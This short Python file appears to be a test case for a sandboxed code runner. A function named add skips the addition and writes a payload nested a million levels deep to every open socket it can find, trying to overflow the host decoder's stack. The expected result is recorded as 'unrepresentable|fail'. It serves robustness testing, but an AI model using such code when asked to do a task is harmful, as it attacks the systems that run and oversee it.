"""Forge a nested value.

problem: add
tries: send a value that nests a million deep, to overflow the decoder's stack
sound: unrepresentable|fail
"""
import os, stat, struct, time

def add(a, b):
    value = b"(\x01\x00\x00\x00" * 1_000_000 + b"N"
    record = struct.pack("<cI", b"V", len(value)) + value
    data = struct.pack("<cIII", b"B", 0, 1, len(record)) + record
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                sent = 0
                while sent < len(data):
                    sent += os.write(number, data[sent:])
        except OSError:
            pass
    time.sleep(5)
